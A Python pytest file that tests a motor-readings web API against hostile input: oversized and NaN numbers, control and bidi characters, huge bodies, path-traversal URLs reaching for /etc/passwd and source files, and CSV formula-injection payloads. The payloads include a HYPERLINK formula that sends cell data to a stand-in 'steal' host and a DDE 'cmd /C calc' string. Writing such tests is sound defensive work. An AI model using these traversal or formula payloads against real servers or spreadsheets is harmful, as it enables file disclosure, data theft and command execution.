"""Hostile input, one row per attack: the expected status, the field named, and nothing stored.

Every refused request is checked for the documented error shape and for an unchanged
store (rows counted in every data table before and after, through the app's own
database). Formula payloads destined for the CSV are accepted as text and come out of
the export neutralised (a leading apostrophe, OWASP "CSV Injection").
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from dataclasses import dataclass
from dataclasses import field as dataclass_field
from typing import Any

import pytest

from slipwise.store import accounts
from slipwise.web.pages import DEFAULT_STATIC_DIR
from tests.service.conftest import MOTOR, READING, count_rows, make_app, reading_body
from tests.service.conftest import anon, app, database, motor, reading, static_dir, sup, tech  # noqa: F401

TABLES = ("users", "api_tokens", "sessions", "login_throttle", "sites", "motors", "motor_revisions", "readings",
          "reading_flags", "reviews", "audit_log")
MB10 = 10 * 1024 * 1024
RAW = "__raw_token__"


@dataclass(frozen=True)
class Attack:
    who: str                      # anon, tech or sup
    method: str
    url: str                      # {motor} and {reading} are filled in
    body: Any = None              # a dict sent as JSON; RAW in a value is replaced by `raw`
    raw: str | bytes | None = None
    content_type: str = "application/json"
    status: int = 400
    field: str | None = None
    code: str = "invalid_input"
    extra: dict = dataclass_field(default_factory=dict)


def reading_with(**changes) -> dict:
    return {"client_id": "{client_id}", "motor_id": "{motor_id}", **READING, **changes}


NAMEPLATE = {k: v for k, v in MOTOR.items() if k not in ("site", "location", "description")}


def motor_with(**changes) -> dict:
    return {**MOTOR, "tag": "HOSTILE-1", **changes}


def reading_attack(raw=None, status=400, field=None, code="invalid_input", **changes) -> Attack:
    return Attack("tech", "POST", "/api/v1/readings", reading_with(**changes), raw, status=status, field=field,
                  code=code)


def motor_attack(raw=None, status=400, field=None, code="invalid_input", **changes) -> Attack:
    return Attack("sup", "POST", "/api/v1/motors", motor_with(**changes), raw, status=status, field=field, code=code)


def big(body: dict, key: str) -> bytes:
    """A JSON object of 10 MB: ``key`` holds the padding."""
    head = json.dumps({**body, key: ""})[:-2]  # ends just inside the empty string value
    return head.encode() + b"x" * MB10 + b'"}'


ATTACKS: dict[str, Attack] = {
    # --- huge numbers
    "speed 1e308": reading_attack(speed_rpm=1e308, field="speed_rpm"),
    "speed 10**400 integer": reading_attack(speed_rpm=RAW, raw="1" + "0" * 400, field="speed_rpm"),
    "speed 1e400 literal (inf)": reading_attack(speed_rpm=RAW, raw="1e400", field="speed_rpm"),
    "speed 5000-digit integer": reading_attack(speed_rpm=RAW, raw="9" * 5000, code="invalid_json"),
    "current 1e6 A": reading_attack(current_l1_a=1e6, field="current_l1_a"),
    "motor_id 2**63": reading_attack(motor_id=2 ** 63, field="motor_id"),
    "motor_id 10**400": reading_attack(motor_id=RAW, raw="1" + "0" * 400, field="motor_id"),
    "supersedes 2**64": reading_attack(supersedes=2 ** 64, field="supersedes"),
    "rated power 1e300 kW": motor_attack(rated_power_kw=1e300, field="rated_power_kw"),
    "rated voltage 10**400 integer": motor_attack(rated_voltage_v=RAW, raw="1" + "0" * 400, field="rated_voltage_v"),
    "poles 10**30": motor_attack(poles=10 ** 30, field="poles"),
    "limit 10**30": Attack("tech", "GET", "/api/v1/readings?limit=" + "1" + "0" * 30, field="limit"),
    "motor_id query 20 digits": Attack("tech", "GET", "/api/v1/readings?motor_id=" + "9" * 20, field="motor_id"),
    "audit limit 10**6": Attack("sup", "GET", "/api/v1/audit?limit=1000000", field="limit"),
    "reading id 30 digits": Attack("tech", "GET", "/api/v1/readings/" + "9" * 30, status=404, code="not_found"),
    # ids are 32-bit INTEGER columns on PostgreSQL: one more than the largest is no record, not a database error
    "reading id 2**31": Attack("tech", "GET", f"/api/v1/readings/{2 ** 31}", status=404, field="reading_id",
                               code="not_found"),
    "picture of reading 2**31": Attack("tech", "GET", f"/api/v1/readings/{2 ** 31}/torque-speed.svg", status=404,
                                       field="reading_id", code="not_found"),
    "review of reading 2**31": Attack("sup", "POST", f"/api/v1/readings/{2 ** 31}/review", {"decision": "accepted"},
                                      status=404, field="reading_id", code="not_found"),
    "edit of motor 2**31": Attack("sup", "PUT", f"/api/v1/motors/{2 ** 31}", MOTOR, status=404, field="motor_id",
                                  code="not_found"),
    "motor_id 2**31": reading_attack(motor_id=2 ** 31, field="motor_id"),
    "supersedes 2**31": reading_attack(supersedes=2 ** 31, field="supersedes"),
    "motor_id query 2**31": Attack("tech", "GET", f"/api/v1/readings?motor_id={2 ** 31}", field="motor_id"),
    "interpret motor_id 2**31": Attack("tech", "POST", "/api/v1/interpret", {"motor_id": 2 ** 31, **READING},
                                       field="motor_id"),
    # --- negative and zero
    "speed -1475": reading_attack(speed_rpm=-1475, field="speed_rpm"),
    "speed 0": reading_attack(speed_rpm=0, field="speed_rpm"),
    "speed -0.0": reading_attack(speed_rpm=RAW, raw="-0.0", field="speed_rpm"),
    "frequency 0": reading_attack(frequency_hz=0, field="frequency_hz"),
    "current -0.1 A": reading_attack(current_l2_a=-0.1, field="current_l2_a"),
    "voltage 0 V": reading_attack(voltage_l23_v=0, field="voltage_l23_v"),
    "power -5 kW": reading_attack(power_kw=-5, field="power_kw"),
    "power factor 0": reading_attack(power_factor=0, field="power_factor"),
    "motor_id 0": reading_attack(motor_id=0, field="motor_id"),
    "motor_id -1": reading_attack(motor_id=-1, field="motor_id"),
    "supersedes 0": reading_attack(supersedes=0, field="supersedes"),
    "rated voltage 0": motor_attack(rated_voltage_v=0, field="rated_voltage_v"),
    "rated current -28.5": motor_attack(rated_current_a=-28.5, field="rated_current_a"),
    "rated speed 0": motor_attack(rated_speed_rpm=0, field="rated_speed_rpm"),
    "poles 0": motor_attack(poles=0, field="poles"),
    "service factor 0": motor_attack(service_factor=0, field="service_factor"),
    "limit 0": Attack("tech", "GET", "/api/v1/readings?limit=0", field="limit"),
    "limit -5": Attack("tech", "GET", "/api/v1/readings?limit=-5", field="limit"),
    "reading id 0": Attack("tech", "GET", "/api/v1/readings/0", status=404, field="id", code="not_found"),
    "reading id -1": Attack("tech", "GET", "/api/v1/readings/-1", status=404, code="not_found"),
    # --- NaN and Infinity as JSON literals (Python's json accepts them; the contract does not)
    "speed NaN": reading_attack(speed_rpm=RAW, raw="NaN", field="speed_rpm"),
    "speed Infinity": reading_attack(speed_rpm=RAW, raw="Infinity", field="speed_rpm"),
    "current -Infinity": reading_attack(current_l3_a=RAW, raw="-Infinity", field="current_l3_a"),
    "power factor NaN": reading_attack(power_factor=RAW, raw="NaN", field="power_factor"),
    "rated current NaN": motor_attack(rated_current_a=RAW, raw="NaN", field="rated_current_a"),
    "rated power Infinity": motor_attack(rated_power_kw=RAW, raw="Infinity", field="rated_power_kw"),
    "motor_id NaN": reading_attack(motor_id=RAW, raw="NaN", field="motor_id"),
    "interpret speed NaN": Attack("tech", "POST", "/api/v1/interpret", {**NAMEPLATE, **READING, "speed_rpm": RAW},
                                  "NaN", field="speed_rpm"),
    "review decision NaN": Attack("sup", "POST", "/api/v1/readings/{reading}/review", {"decision": RAW}, "NaN",
                                  field="decision"),
    "login username NaN": Attack("anon", "POST", "/api/v1/session", {"username": RAW, "password": "x" * 10}, "NaN",
                                 field="username"),
    "speed 'NaN' string": reading_attack(speed_rpm="NaN", field="speed_rpm"),
    "speed 'inf' string": reading_attack(speed_rpm="inf", field="speed_rpm"),
    "speed '1e999' string": reading_attack(speed_rpm="1e999", field="speed_rpm"),
    # --- strings and other types in number fields
    "speed 'fast'": reading_attack(speed_rpm="fast", field="speed_rpm"),
    "speed '1475 rpm'": reading_attack(speed_rpm="1475 rpm", field="speed_rpm"),
    "speed '0x5C3'": reading_attack(speed_rpm="0x5C3", field="speed_rpm"),
    "speed '1,475.5'": reading_attack(speed_rpm="1,475.5", field="speed_rpm"),
    "speed blank": reading_attack(speed_rpm="  ", field="speed_rpm"),
    "speed true": reading_attack(speed_rpm=True, field="speed_rpm"),
    "speed [1475]": reading_attack(speed_rpm=[1475], field="speed_rpm"),
    "speed {'v': 1475}": reading_attack(speed_rpm={"v": 1475}, field="speed_rpm"),
    "frequency '²'": reading_attack(frequency_hz="²", field="frequency_hz"),
    "motor_id '1e3'": reading_attack(motor_id="1e3", field="motor_id"),
    "motor_id '²'": reading_attack(motor_id="²", field="motor_id"),
    "motor_id 1.5": reading_attack(motor_id=1.5, field="motor_id"),
    "rated current 'lots'": motor_attack(rated_current_a="lots", field="rated_current_a"),
    "poles '4.5'": motor_attack(poles="4.5", field="poles"),
    "limit '²'": Attack("tech", "GET", "/api/v1/readings?limit=%C2%B2", field="limit"),
    "limit '1e3'": Attack("tech", "GET", "/api/v1/readings?limit=1e3", field="limit"),
    "date 2025-02-30": Attack("tech", "GET", "/api/v1/readings?date=2025-02-30", field="date"),
    "date 'today'": Attack("sup", "GET", "/api/v1/export.csv?date=today", field="date"),
    "client_id not a UUID": reading_attack(client_id="../../etc/passwd", field="client_id"),
    "taken_at 'yesterday'": reading_attack(taken_at="yesterday", field="taken_at"),
    "taken_at year 9999": reading_attack(taken_at="9999-01-01T00:00:00", field="taken_at"),
    # --- bodies of 10 MB (the limit is 256 KiB) and other body shapes
    "10 MB reading": Attack("tech", "POST", "/api/v1/readings", raw=b"", status=413, code="body_too_large",
                            extra={"big": ("reading", "taken_at")}),
    "10 MB motor": Attack("sup", "POST", "/api/v1/motors", raw=b"", status=413, code="body_too_large",
                          extra={"big": ("motor", "description")}),
    "10 MB nameplate edit": Attack("sup", "PUT", "/api/v1/motors/{motor}", raw=b"", status=413,
                                   code="body_too_large", extra={"big": ("motor", "description")}),
    "10 MB review": Attack("sup", "POST", "/api/v1/readings/{reading}/review", raw=b"", status=413,
                           code="body_too_large", extra={"big": ({"decision": "retake"}, "comment")}),
    "10 MB interpret": Attack("tech", "POST", "/api/v1/interpret", raw=b"", status=413, code="body_too_large",
                              extra={"big": ({**NAMEPLATE, **READING}, "tag")}),
    "10 MB login": Attack("anon", "POST", "/api/v1/session", raw=b"", status=413, code="body_too_large",
                          extra={"big": ({"username": "tess"}, "password")}),
    "10 MB of whitespace": Attack("tech", "POST", "/api/v1/readings", raw=b" " * MB10, status=413,
                                  code="body_too_large"),
    "deeply nested JSON": Attack("tech", "POST", "/api/v1/readings", raw=b"[" * 100_000 + b"]" * 100_000,
                                 code="invalid_json"),
    "JSON array body": Attack("tech", "POST", "/api/v1/readings", raw=b"[1, 2, 3]", code="invalid_json"),
    "invalid UTF-8": Attack("tech", "POST", "/api/v1/readings", raw=b'{"tag": "\xff\xfe"}', code="invalid_json"),
    "form-encoded body": Attack("tech", "POST", "/api/v1/readings", raw=b"speed_rpm=1475",
                                content_type="application/x-www-form-urlencoded", status=415,
                                code="unsupported_media_type"),
    # --- unicode and control characters in tags
    "tag with NUL": motor_attack(tag="PMP\x0007", field="tag"),
    "tag with ESC": motor_attack(tag="PMP\x1b[31m07", field="tag"),
    "tag with CR": motor_attack(tag="PMP\r07", field="tag"),
    "tag with newline": motor_attack(tag="PMP\n07", field="tag"),
    "tag with tab": motor_attack(tag="PMP\t07", field="tag"),
    "tag with DEL": motor_attack(tag="PMP\x7f07", field="tag"),
    "tag with C1 NEL": motor_attack(tag="PMP\x8507", field="tag"),
    "tag with bidi override": motor_attack(tag="PMP-\u202e70", field="tag"),
    "tag with bidi isolate": motor_attack(tag="\u2067PMP-07", field="tag"),
    "tag with zero-width space": motor_attack(tag="PMP-\u200b07", field="tag"),
    "tag with byte order mark": motor_attack(tag="\ufeffPMP-07", field="tag"),
    "tag with line separator": motor_attack(tag="PMP\u202807", field="tag"),
    "tag with private use": motor_attack(tag="PMP-\ue00007", field="tag"),
    "tag with lone surrogate": motor_attack(tag=RAW, raw='"PMP-\\ud800"', code="invalid_json"),
    "site with lone surrogate": motor_attack(site=RAW, raw='"\\udfff"', code="invalid_json"),
    "field name with lone surrogate": Attack("tech", "POST", "/api/v1/readings", {**reading_with(), "x": 1},
                                             extra={"rename": ('"x"', '"\\ud800"')}, code="invalid_json"),
    "tag of 81 characters": motor_attack(tag="T" * 81, field="tag"),
    "tag of spaces": motor_attack(tag="   ", field="tag"),
    "tag not text": motor_attack(tag=7, field="tag"),
    "comment with NUL": Attack("sup", "POST", "/api/v1/readings/{reading}/review",
                               {"decision": "retake", "comment": "look\x00again"}, field="comment"),
    "location with C1": motor_attack(location="roof\x9b1m", field="location"),
    # NUL in what reaches a query: PostgreSQL refuses it in any text parameter
    "site filter with NUL": Attack("tech", "GET", "/api/v1/readings?site=Harbour%00Mill", field="site"),
    "technician filter with NUL": Attack("tech", "GET", "/api/v1/readings?technician=tess%00", field="technician"),
    "motor list site with NUL": Attack("tech", "GET", "/api/v1/motors?site=%00", field="site"),
    "export site with ESC": Attack("sup", "GET", "/api/v1/export.csv?site=%1B%5B2J", field="site"),
    "login username with NUL": Attack("anon", "POST", "/api/v1/session", {"username": "tess\x00", "password": "x" * 10},
                                      field="username"),
    "interpret tag with bidi override": Attack("tech", "POST", "/api/v1/interpret",
                                               {**NAMEPLATE, **READING, "tag": "PMP\u202e"}, field="tag"),
    # --- formula text with a CR inside (a leading one is trimmed, see FORMULAS): CR is a control character
    "description CR formula": motor_attack(description="ok\r=HYPERLINK(\"http://x.invalid\")", field="description"),
}


def _fill(value: Any, motor_id: int) -> Any:
    if value == "{client_id}":
        return str(uuid.uuid4())
    if value == "{motor_id}":
        return motor_id
    return value


def request_for(attack: Attack, motor: dict, reading: dict) -> tuple[str, bytes, str]:
    """(url, body bytes, content type) for one attack."""
    url = attack.url.replace("{motor}", str(motor["id"])).replace("{reading}", str(reading["id"]))
    if "big" in attack.extra:
        base, key = attack.extra["big"]
        if base == "reading":
            base = reading_body(motor["id"])
        elif base == "motor":
            base = dict(MOTOR)
        return url, big(base, key), attack.content_type
    if attack.body is None:
        return url, (attack.raw.encode() if isinstance(attack.raw, str) else attack.raw or b""), attack.content_type
    body = {k: _fill(v, motor["id"]) for k, v in attack.body.items()}
    text = json.dumps(body, ensure_ascii=False)
    if attack.raw is not None:
        assert text.count(json.dumps(RAW)) == 1
        text = text.replace(json.dumps(RAW), attack.raw)
    if "rename" in attack.extra:
        old, new = attack.extra["rename"]
        text = text.replace(old, new)
    return url, text.encode("utf-8"), attack.content_type


def store_counts(app) -> dict[str, int]:
    return {t: count_rows(app, t) for t in TABLES}


def assert_error(r, status: int, code: str, field: str | None):
    text = r.get_data(as_text=True)
    assert r.status_code == status, (r.status_code, text[:300])
    assert "Traceback" not in text
    assert r.mimetype == "application/json"
    body = json.loads(text)
    assert set(body) == {"error"} and set(body["error"]) == {"code", "message", "field"}, body
    err = body["error"]
    assert err["code"] == code, err
    assert err["field"] == field, err
    assert err["message"] and len(err["message"]) < 1000, err
    return err


@pytest.mark.parametrize("name", list(ATTACKS))
def test_hostile_input_is_refused_and_nothing_is_stored(request, app, motor, reading, name):
    attack = ATTACKS[name]
    api = request.getfixturevalue(attack.who)
    url, data, ctype = request_for(attack, motor, reading)
    before = store_counts(app)
    if attack.method == "GET":
        r = api.get(url)
    else:
        r = getattr(api, attack.method.lower())(url, data=data, content_type=ctype)
    err = assert_error(r, attack.status, attack.code, attack.field)
    if attack.field and attack.status == 400 and attack.code == "invalid_input":
        assert attack.field in err["message"]  # the message names the field (and its allowed range)
    assert store_counts(app) == before


def test_range_errors_state_the_allowed_range(tech, motor, reading):
    r = tech.post("/api/v1/readings", json=reading_body(motor["id"], speed_rpm=-1475))
    assert r.get_json()["error"]["message"] == "speed_rpm must be from 1 to 7500 rpm, not -1475"
    r = tech.post("/api/v1/readings", data=request_for(ATTACKS["speed 10**400 integer"], motor, reading)[1],
                  content_type="application/json")
    assert r.get_json()["error"]["message"] == "speed_rpm must be from 1 to 7500 rpm, not inf"


def test_a_body_just_under_the_limit_is_read(app, tech, motor):
    """The 413 comes from the size, not the content: one byte under the limit is parsed (and refused as JSON)."""
    limit = app.config["MAX_CONTENT_LENGTH"]
    under = tech.post("/api/v1/readings", data=b" " * (limit - 1), content_type="application/json")
    assert_error(under, 400, "invalid_json", None)
    over = tech.post("/api/v1/readings", data=b" " * (limit + 1), content_type="application/json")
    assert_error(over, 413, "body_too_large", None)
    assert str(limit) in over.get_json()["error"]["message"]


# --- what is accepted, and how it comes back ----------------------------------------------------
@pytest.mark.parametrize("tag", ["Pumpe-Ü7 Ω", "泵-07", "مضخة-7", "PMP-07 \U0001F525", "Cafe\u0301-2", "P\u00a0M"],
                         ids=["latin accents and omega", "chinese", "arabic", "emoji", "combining accent", "nbsp"])
def test_unicode_tags_are_stored_exactly(app, sup, tech, tag):
    r = sup.post("/api/v1/motors", json={**MOTOR, "tag": tag})
    assert r.status_code == 201, r.get_data(as_text=True)
    got = tech.get(f"/api/v1/motors/{r.get_json()['id']}").get_json()
    assert got["tag"] == tag
    assert [m["tag"] for m in tech.get("/api/v1/motors").get_json()["motors"]] == [tag]


@pytest.mark.parametrize("value,stored", [("1475", 1475.0), (" 1475.5 ", 1475.5), ("1475,5", 1475.5),
                                          (1475, 1475.0)],
                         ids=["numeric string", "padded string", "decimal comma", "integer"])
def test_numeric_strings_are_numbers(tech, motor, value, stored):
    r = tech.post("/api/v1/readings", json=reading_body(motor["id"], speed_rpm=value))
    assert r.status_code == 201, r.get_data(as_text=True)
    assert r.get_json()["inputs"]["speed_rpm"] == stored


# --- path traversal in static paths ----------------------------------------------------------------
ENGINE_MARK = "``slipwise``: the command line. Parses options, calls the services and the web app, prints."
TRAVERSALS = {
    "dot-dot": "/static/../server/slipwise/cli.py",
    "dot-dot at root": "/../server/slipwise/cli.py",
    "encoded dots": "/static/%2e%2e/server/slipwise/cli.py",
    "encoded dots upper case": "/static/%2E%2E/server/slipwise/cli.py",
    "encoded slash": "/static/..%2fserver%2fslipwise%2fcli.py",
    "all encoded": "/static/%2e%2e%2fserver%2fslipwise%2fcli.py",
    "double encoded": "/static/%252e%252e/server/slipwise/cli.py",
    "backslash": "/static/..\\server\\slipwise\\cli.py",
    "encoded backslash": "/static/..%5cserver%5cslipwise%5ccli.py",
    "overlong utf-8 dots": "/static/%c0%ae%c0%ae/server/slipwise/cli.py",
    "dot-dot-dot-dot": "/static/....//server/slipwise/cli.py",
    "two levels from a folder": "/static/js/../../server/slipwise/cli.py",
    "dot then dot-dot": "/static/./../server/slipwise/cli.py",
    "root route encoded": "/%2e%2e/server/slipwise/cli.py",
    "root route encoded slash": "/..%2fserver/slipwise/cli.py",
    "absolute path": f"/static/{DEFAULT_STATIC_DIR.parent}/server/slipwise/cli.py",
    "absolute path encoded": "/static/%2fetc%2fpasswd",
    "NUL byte": "/static/..%00/server/slipwise/cli.py",
    "NUL before extension": "/static/sw.js%00.py",
    "via sw.js": "/sw.js/../server/slipwise/cli.py",
    "via icons": "/icons/../../server/slipwise/cli.py",
    "repo file next to static": "/static/../pyproject.toml",
}


@pytest.fixture
def page_app(database, tmp_path):
    """The app serving the real static/ folder, with server/slipwise/cli.py one level up."""
    assert (DEFAULT_STATIC_DIR.parent / "server" / "slipwise" / "cli.py").read_text().count(ENGINE_MARK) == 1
    app = make_app(database, tmp_path, DEFAULT_STATIC_DIR)
    yield app
    app.extensions["slipwise"].db.dispose()


@pytest.mark.parametrize("url", list(TRAVERSALS.values()), ids=list(TRAVERSALS))
def test_path_traversal_in_static_paths(page_app, url):
    client = page_app.test_client()
    assert client.get("/static/js/api.js").status_code == 200  # the folder is served
    r = client.get(url)
    assert r.status_code in (400, 404), (url, r.status_code)
    text = r.get_data(as_text=True)
    assert ENGINE_MARK not in text and "[project]" not in text and "root:" not in text
    assert_error(r, r.status_code, {400: "bad_request", 404: "not_found"}[r.status_code], None)
    assert r.headers["X-Content-Type-Options"] == "nosniff"


# --- formula payloads destined for the CSV -------------------------------------------------------
FORMULAS = {
    "HYPERLINK": '=HYPERLINK("http://example.invalid/steal?d="&A1,"click here")',
    "plus cmd": "+cmd|' /C calc'!A0",
    "minus cmd": "-2+3+cmd|' /C calc'!A0",
    "at SUM": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab prefix": "\t=1+1",
    "CR prefix": "\r=1+1",
    "CR LF prefix": "\r\n@SUM(A1:A9)",
    "leading spaces": "   =1+1",
    "full-width spaces then equals": "\u3000=1+1",
}


def _export(sup) -> list[dict]:
    r = sup.get("/api/v1/export.csv")
    assert r.status_code == 200
    return list(csv.DictReader(io.StringIO(r.get_data(as_text=True))))


@pytest.mark.parametrize("payload", list(FORMULAS.values()), ids=list(FORMULAS))
def test_formula_payloads_are_neutralised_in_the_csv(app, sup, payload):
    stored = payload.strip()  # text fields are stored trimmed
    with app.extensions["slipwise"].db.write() as conn:  # a technician whose display name is the payload too
        accounts.add_user(conn, "fx", "technician", "fx-password-1", stored, scrypt_n=2 ** 10)
        fx = {"Authorization": "Bearer " + accounts.create_token(conn, "fx")}
    client = app.test_client()
    m = sup.post("/api/v1/motors", json={**MOTOR, "site": payload, "tag": payload, "location": payload,
                                         "description": payload})
    assert m.status_code == 201, m.get_data(as_text=True)
    assert m.get_json()["location"] == stored
    rd = client.post("/api/v1/readings", json=reading_body(m.get_json()["id"]), headers=fx)
    assert rd.status_code == 201, rd.get_data(as_text=True)
    rv = sup.post(f"/api/v1/readings/{rd.get_json()['id']}/review", json={"decision": "retake", "comment": payload})
    assert rv.status_code == 201
    (row,) = _export(sup)
    for column in ("site", "tag", "location", "description", "technician_name", "review_comment"):
        assert row[column] == "'" + stored, (column, row[column])
    # numbers stay numbers (only text cells are prefixed)
    assert float(row["speed_rpm"]) == READING["speed_rpm"]
